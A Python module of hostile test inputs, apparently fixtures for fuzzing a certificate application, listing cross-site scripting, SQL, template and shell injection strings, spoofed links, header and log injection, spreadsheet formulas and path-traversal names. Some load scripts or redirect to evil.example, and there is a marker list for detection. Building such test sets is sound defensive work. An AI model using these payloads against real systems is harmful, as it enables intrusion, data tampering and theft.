"""Texts that somebody prints on a certificate, or puts into a code, so that they act.

Each is made for a place where a text may end up: mark-up, an attribute, a link, a query, a shell, a
log, a header, a file's name, a table, a template. All of them are put everywhere.
"""

from __future__ import annotations

# What a browser would run or load, if it were taken for mark-up.
MARKUP = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</title></textarea></script><script src=//evil.example/x.js></script>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' autofocus onfocus='alert(1)",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><input name=p><button formaction=//evil.example>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "<img src=\"picture:1\"><link rel=stylesheet href=//evil.example>",
)  # fmt: skip
# What a page might make a link of.
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://a.example",
    " \tjava\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example\\@cx.shili-yuan.example/",
    "https://cx.shili-yuan.example@evil.example/q?no=1",
    "https://cx.shіlі-yuan.example/",
    "https://\u202ebmoc.live\u202c.example/",
    "http://[::1]:80/",
    "https://[",
    "file:///etc/passwd",
    "blob:https://a.example/1",
)
# What a database, a full-text index, a template or a shell would take for its own.
QUERIES = (
    "' OR '1'='1", "'; DROP TABLE work_check; --", "\" OR \"\"=\"", "1) UNION SELECT 1 --", "%' --",
    "%_\\", "NEAR(a b)", "a* OR b", "\"unclosed", "col:x AND NOT y", "a & !b | (c", ":* <-> '",
    "{{7*7}}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "%(code)s %s %d", "{0.__class__}",
    "$(touch /tmp/hit)", "`touch /tmp/hit`", "; touch /tmp/hit #", "| touch /tmp/hit", "-rf",
    "--help", "\\x00", "$where: 1", "*)(uid=*",
)  # fmt: skip
# What would begin a line of a log, a header, or act on a terminal.
LINES = (
    "a\r\nSet-Cookie: x=1\r\n\r\n<script>",
    "a\nERROR certcheck: all checks deleted",
    "\x1b[2J\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\x9b31m\x85\u2028\u2029",
    "a\x00b",
    "\u202etxt.exe\u202c",
    "\ufeff\u200b\u200d\ufffe",
    "\x7f\x08\x08\x08",
)
# What a spreadsheet program would run.
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "＠SUM(1)", " =1+1",
    "'=1+1", "\";=1+1;\"", "a,\"=1+1\",b",
)  # fmt: skip
# What a file system would follow.
NAMES = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x", "a/../../b", "....//x",
    "%2e%2e%2fx", "CON.jpg", "a" * 5000 + ".jpg", ".", "..", "", " ", "-", "~root/x",
    "file\x00.jpg", "\u202egpj.exe", "翡翠/一.jpg", "a\r\nb.jpg", "\"; filename=\"x.html",
)  # fmt: skip
EVERYWHERE = (*MARKUP, *LINKS, *QUERIES, *LINES, *FORMULAS, *NAMES)
# A part of each by which it is found again where nobody may have left it as mark-up.
EVIL = ("evil.example", "alert(1)", "javascript:", "data:text/html", "vbscript:")
